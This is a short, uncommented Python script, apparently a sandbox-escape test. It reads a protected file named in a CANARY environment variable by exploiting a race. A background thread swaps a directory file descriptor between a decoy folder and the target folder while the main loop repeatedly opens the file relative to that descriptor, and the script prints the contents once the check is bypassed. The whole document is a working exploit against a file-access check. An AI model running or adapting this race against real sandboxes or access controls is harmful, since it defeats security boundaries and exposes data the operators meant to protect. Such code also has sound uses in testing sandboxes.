import os
import sys
import threading

sys.setswitchinterval(1e-5)
folder, name = os.path.split(os.environ["CANARY"])
os.mkdir("mine")
with open("mine/" + name, "w") as f:
    f.write("harmless")
mine = os.open("mine", os.O_RDONLY)
other = os.open(folder, os.O_RDONLY)
target = os.dup(mine)
stop = False

def flip():
    while not stop:
        os.dup2(mine, target)
        os.dup2(other, target)

thread = threading.Thread(target=flip)
thread.start()
for _ in range(3000):
    try:
        fd = os.open(name, os.O_RDONLY, dir_fd=target)
    except OSError:
        continue
    data = os.read(fd, 100)
    os.close(fd)
    if data != b"harmless":
        print(data.decode())
        break
stop = True
thread.join()
